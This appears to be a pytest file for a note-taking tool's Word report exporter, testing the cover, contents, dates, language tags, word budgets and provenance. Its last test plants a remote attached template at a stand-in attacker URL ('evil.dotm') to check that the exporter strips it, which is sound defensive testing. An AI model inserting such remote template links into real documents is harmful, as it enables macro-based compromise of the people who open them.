"""What a Word report holds: cover, contents, header/footer, language tags, dates,
event-record fields, word budgets, provenance and the house-style fallbacks."""

from __future__ import annotations

import zipfile
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import docx
import pytest
from docx.oxml.ns import qn

from notetaker import paths
from notetaker.core import Core
from notetaker.domain import Event, EventKind, Item, Note, Provenance
from notetaker.export import ExportError, WordLimitExceeded, export_note, export_notes
from notetaker.export.docx import render_docx
from notetaker.export.meta import format_dates, format_venue
from notetaker.export.model import Heading, Meta, MetaEntry, Paragraph, Report, build_report
from notetaker.richtext import RichText, Run
from notetaker.templates import TemplateLibrary, parse_template

from .conftest import EVENT_TITLE

HOUSE_STYLE = paths.report_templates_dir() / "styles" / "house_style.docx"
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"

RECORD = """
id = "record"
version = 1
title = { en = "Meeting record", es = "Relatoría" }
header_fields = ["dates", "venue", "convener", "languages", "general_objectives", "specific_objectives", "comments"]
style_reference = "styles/house_style.docx"
cover = true
toc = true
provenance = true

[[sections]]
key = "objective"
kind = "text"
event_field = "general_objectives"
title = { en = "General objective", es = "Objetivo general" }

[[sections]]
key = "profile"
kind = "text"
event_field = "participants_profile"
title = "Participants"

[[sections]]
key = "outcomes"
kind = "group"
title = { en = "Outcomes", es = "Resultados" }
word_limit = 12

  [[sections.sections]]
  key = "agreements"
  kind = "items"
  title = { en = "Agreements", es = "Acuerdos" }

  [[sections.sections]]
  key = "statements"
  kind = "interventions"
  title = "Statements"
"""

EVENT = Event(
    id=7,
    title="XXVIII Vice-Ministerial Meeting",
    kind=EventKind.VICE_MINISTERIAL_MEETING,
    series="RCM",
    starts_at=datetime(2023, 11, 16, 15, 0, tzinfo=UTC),
    ends_at=datetime(2023, 11, 16, 23, 0, tzinfo=UTC),
    timezone="America/Guatemala",
    venue_city="Guatemala City",
    venue_country="GT",
    languages=("es", "en"),
    convener="Presidency Pro-Tempore",
    general_objectives="To approve the Strategic Plan.",
    specific_objectives=("To inform Vice-Ministers.", "To issue recommendations."),
    comments="Costs are covered by the organisers.\nDocuments in Spanish only.",
)


def _template():
    template = parse_template(RECORD, paths.report_templates_dir() / "record.toml")
    return template


def _note(*items: Item) -> Note:
    return Note(id=3, event_id=7, template_id="record", notetakers=("Ana",), items=items)


def _item(section: str, text: str, *codes: str, author: str = "", position: int = 0, **kw) -> Item:
    return Item(None, section, RichText.plain(text), tuple(codes), author=author, position=position, **kw)


def _roster(core: Core):
    return core.delegations.by_code()


def _paragraphs(path: Path) -> list[tuple[str, str]]:
    return [(p.style.name, p.text) for p in docx.Document(str(path)).paragraphs]


def test_cover_contents_header_and_footer(core: Core, tmp_path: Path):
    note = _note(_item("agreements", "Approve the plan.", author="Ana"))
    report = build_report(EVENT, note, _template(), _roster(core), "en")
    out = tmp_path / "r.docx"
    assert render_docx(report, out, HOUSE_STYLE) == []
    doc = docx.Document(str(out))
    paras = [(p.style.name, p.text) for p in doc.paragraphs]
    # The cover: title, template title, series, dates, venue, then a page break.
    assert paras[:5] == [
        ("Title", EVENT.title),
        ("Subtitle", "Meeting record"),
        ("Normal", "RCM"),
        ("Normal", "November 16, 2023, 9:00 AM – 5:00 PM (GMT-6)"),
        ("Normal", "Guatemala City, Guatemala"),
    ]
    assert doc.paragraphs[5]._p.xpath(".//w:br[@w:type='page']")
    # The contents: a TOC field whose cached entries link to the headings.
    assert paras[6] == ("TOC Heading", "Contents")
    xml = doc.element.body.xml
    assert 'TOC \\o "1-2" \\h \\z \\u' in xml and 'w:fldCharType="begin"' in xml
    toc_entries = [t for s, t in paras if s.startswith("toc")]
    assert toc_entries == ["General objective", "Outcomes", "Agreements", "Statements"]
    settings = doc.settings.element.find(qn("w:updateFields"))
    assert settings is not None and settings.get(qn("w:val")) == "true"
    # Header with the title, footer "Page X of Y", none on the cover page.
    section = doc.sections[0]
    assert section.header.paragraphs[0].text == EVENT.title
    footer = section.footer._element.xml
    assert "Page " in footer and " of " in footer and "PAGE" in footer and "NUMPAGES" in footer
    assert section.different_first_page_header_footer
    assert section.first_page_header.paragraphs[0].text == ""
    assert section.first_page_footer.paragraphs[0].text == ""
    # Headings carry the bookmarks the contents point to.
    anchors = set(doc.element.body.xpath(".//w:hyperlink/@w:anchor"))
    bookmarks = set(doc.element.body.xpath(".//w:bookmarkStart/@w:name"))
    assert anchors and anchors <= bookmarks


def test_metadata_block_and_event_record_sections(core: Core, tmp_path: Path):
    note = _note(_item("agreements", "Approve the plan."))
    out = tmp_path / "r.docx"
    render_docx(build_report(EVENT, note, _template(), _roster(core), "en"), out, HOUSE_STYLE)
    paras = _paragraphs(out)
    start = paras.index(("Normal", "Dates: November 16, 2023, 9:00 AM – 5:00 PM (GMT-6)"))
    assert paras[start:start + 12] == [
        ("Normal", "Dates: November 16, 2023, 9:00 AM – 5:00 PM (GMT-6)"),
        ("Normal", "Venue: Guatemala City, Guatemala"),
        ("Normal", "Convener: Presidency Pro-Tempore"),
        ("Normal", "Languages of the documents: Spanish, English"),
        ("Normal", "General objective"),
        ("Quote", "To approve the Strategic Plan."),
        ("Normal", "Specific objectives"),
        ("List Number", "To inform Vice-Ministers."),
        ("List Number", "To issue recommendations."),
        ("Normal", "Comments"),
        ("Quote", "Costs are covered by the organisers."),
        ("Quote", "Documents in Spanish only."),
    ]
    # A section with event_field prints the record's text; an empty one is left out.
    assert paras[start + 12:start + 14] == [("Heading 1", "General objective"), ("Normal", "To approve the Strategic Plan.")]
    assert ("Heading 1", "Participants") not in paras


def test_spanish_dates_and_language_tags(core: Core, tmp_path: Path):
    note = _note(_item("agreements", "Aprobar el plan."))
    out = tmp_path / "informe.docx"
    render_docx(build_report(EVENT, note, _template(), _roster(core), "es"), out, HOUSE_STYLE)
    doc = docx.Document(str(out))
    texts = [p.text for p in doc.paragraphs]
    assert "16 de noviembre de 2023, 9:00 – 17:00 (GMT-6)" in texts
    assert "Guatemala City, Guatemala" in texts  # the city as typed, the country from CLDR
    assert format_venue(replace(EVENT, venue_city="", venue_country="MX", is_virtual=True), "es") == "México, Virtual"
    assert ("Heading 1", "Resultados") in [(p.style.name, p.text) for p in doc.paragraphs]
    runs = doc.element.body.findall(f".//{W}r")
    tagged = [r for r in runs if r.find(f"{W}rPr/{W}lang") is not None]
    assert runs and len(tagged) == len([r for r in runs if r.find(f"{W}t") is not None])
    assert {r.find(f"{W}rPr/{W}lang").get(f"{W}val") for r in tagged} == {"es-ES"}
    defaults = doc.styles.element.find(f"{W}docDefaults/{W}rPrDefault/{W}rPr/{W}lang")
    assert defaults.get(f"{W}val") == "es-ES"


def test_date_formats():
    day_only = replace(EVENT, starts_at=datetime(2023, 11, 14, 6, 0, tzinfo=UTC), ends_at=datetime(2023, 11, 17, 5, 59, tzinfo=UTC))
    assert format_dates(day_only, "en") == "November 14, 2023 – November 16, 2023"
    assert format_dates(day_only, "es") == "14 de noviembre de 2023 – 16 de noviembre de 2023"
    two_days = replace(EVENT, ends_at=datetime(2023, 11, 17, 23, 0, tzinfo=UTC))
    assert format_dates(two_days, "en") == "November 16, 2023, 9:00 AM – November 17, 2023, 5:00 PM (GMT-6)"
    assert format_dates(replace(EVENT, ends_at=None), "en") == "November 16, 2023, 9:00 AM (GMT-6)"
    assert format_dates(replace(EVENT, starts_at=None), "en") == ""


def test_provenance_names_who_wrote_each_point(core: Core):
    merged = Provenance(note_uid="n1", author="Luis")
    note = _note(
        _item("agreements", "Approve the plan.", author="Ana"),
        _item("statements", "We agree.", "GT", author="Ana", provenance=(merged,)),
    )
    report = build_report(EVENT, note, _template(), _roster(core), "en")
    paras = [b for b in report.blocks if isinstance(b, Paragraph)]
    assert paras[-2].runs[-1] == Run(" [Ana]", italic=True)
    assert paras[-1].text == "Guatemala: We agree. [Ana, Luis]"


def test_heading_3_quote_and_toc_fall_back_with_warnings(tmp_path: Path):
    reference = docx.Document(str(HOUSE_STYLE))
    for name in ("Heading 3", "Quote", "TOC Heading", "toc 1"):
        element = reference.styles[name].element
        element.getparent().remove(element)
    ref_path = tmp_path / "ref.docx"
    reference.save(str(ref_path))
    report = Report(
        "T", "S", "en",
        (MetaEntry("Profile", "Officials", long=True),),
        (Heading(1, "One"), Heading(2, "Two"), Heading(3, "Three"), Meta((MetaEntry("Where", "Here"),))),
        toc="Contents",
    )
    out = tmp_path / "r.docx"
    warnings = render_docx(report, out, ref_path)
    joined = "\n".join(warnings)
    assert "no “Heading 3” style; used “Heading 2”" in joined
    assert "no “Quote” style; used “Normal”" in joined and "no “TOC Heading” style" in joined
    assert "toc 1" not in joined.lower().replace("toc heading", "")  # Word makes its own entry styles
    doc = docx.Document(str(out))
    paras = {p.text: p for p in doc.paragraphs}
    assert paras["Three"].style.name == "Heading 2"
    assert paras["Officials"].style.name == "Normal" and all(r.italic for r in paras["Officials"].runs)
    assert all(r.bold for r in paras["Contents"].runs)
    assert paras["Where: Here"].runs[0].bold


def test_word_budget_refused_with_the_count_unless_forced(core: Core, tmp_path: Path):
    event = core.events.create(Event(None, EVENT_TITLE)).value
    note = core.notes.create(event.id, "imrf-side-event", ["Ana"]).value
    core.notes.add_item(note.id, "introduction", body=RichText.plain("word " * 485))
    core.notes.add_item(note.id, "floor_interventions", body=RichText.plain("one two three four five"), delegations=["GT"])
    core.notes.add_item(note.id, "regional_context", body=RichText.plain("six seven eight nine ten eleven twelve thirteen fourteen fifteen sixteen"))
    out = tmp_path / "r.docx"
    out.write_bytes(b"old report")
    with pytest.raises(WordLimitExceeded) as info:
        export_note(core, note.id, out)
    message = str(info.value)
    # 485 + "Guatemala:" (the speaker's name as printed counts) + 5 + 11 = 502
    assert "“Summary (500 words max)” has 502 words, over its limit of 500" in message
    assert "force" in message and "\n" not in message
    assert info.value.over == [(EVENT_TITLE, "Summary (500 words max)", 502, 500)]
    assert out.read_bytes() == b"old report"
    warnings = export_note(core, note.id, out, force=True)
    assert warnings == ["“Summary (500 words max)” has 502 words, over its limit of 500; exported anyway."]
    assert zipfile.is_zipfile(out)


def test_missing_template_and_no_notes_are_clear_errors(core: Core, tmp_path: Path):
    event = core.events.create(Event(None, "E")).value
    note = core.notes.create(event.id, "imrf-side-event", []).value
    core.templates = TemplateLibrary()  # as if the template file had been removed
    with pytest.raises(ExportError, match="unknown template 'imrf-side-event'"):
        export_note(core, note.id, tmp_path / "r.docx")
    with pytest.raises(ExportError, match="no notes"):
        export_notes(core, [], tmp_path / "r.docx")


def test_format_follows_the_suffix(core: Core, note_id: int, tmp_path: Path):
    export_notes(core, [note_id], tmp_path / "r.md")
    assert (tmp_path / "r.md").read_text(encoding="utf-8").startswith(f"# {EVENT_TITLE}")
    export_notes(core, [note_id], tmp_path / "r.unknown")
    assert zipfile.is_zipfile(tmp_path / "r.unknown")
    export_notes(core, [note_id], tmp_path / "forced.md", "docx")
    assert zipfile.is_zipfile(tmp_path / "forced.md")


def test_progress_reports_every_step_and_cancel_writes_nothing(core: Core, note_id: int, tmp_path: Path):
    import threading

    seen: list[tuple[int, int]] = []
    export_note(core, note_id, tmp_path / "r.docx", progress=lambda done, total: seen.append((done, total)))
    assert seen == [(0, 4), (1, 4), (2, 4), (3, 4), (4, 4)]

    from notetaker.export import ExportCancelled

    cancel = threading.Event()
    (tmp_path / "out").mkdir()
    target = tmp_path / "out" / "kept.docx"
    target.write_bytes(b"old")

    def stop_after_loading(done: int, total: int) -> None:
        if done == 1:
            cancel.set()

    with pytest.raises(ExportCancelled):
        export_note(core, note_id, target, progress=stop_after_loading, cancel=cancel)
    assert target.read_bytes() == b"old"
    assert sorted(p.name for p in target.parent.iterdir()) == ["kept.docx"]


def test_a_reference_never_brings_code_or_remote_content(tmp_path: Path):
    """A reference with a remote attached template (a classic way to run a macro) loses it."""
    reference = docx.Document(str(HOUSE_STYLE))
    settings = next(p for p in reference.part.package.iter_parts() if str(p.partname) == "/word/settings.xml")
    rid = settings.relate_to("http://attacker.example/evil.dotm",
                             "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate",
                             is_external=True)
    attached = settings.element.makeelement(qn("w:attachedTemplate"), {qn("r:id"): rid})
    settings.element.insert(0, attached)
    ref_path = tmp_path / "ref.docx"
    reference.save(str(ref_path))
    assert b"attacker.example" in zipfile.ZipFile(ref_path).read("word/_rels/settings.xml.rels")

    out = tmp_path / "r.docx"
    render_docx(Report("T", blocks=(Paragraph((Run("x"),)),)), out, ref_path)
    with zipfile.ZipFile(out) as zf:
        everything = b"".join(zf.read(n) for n in zf.namelist())
        assert not any(n.endswith(".bin") for n in zf.namelist())
    assert b"attacker.example" not in everything and b"attachedTemplate" not in everything
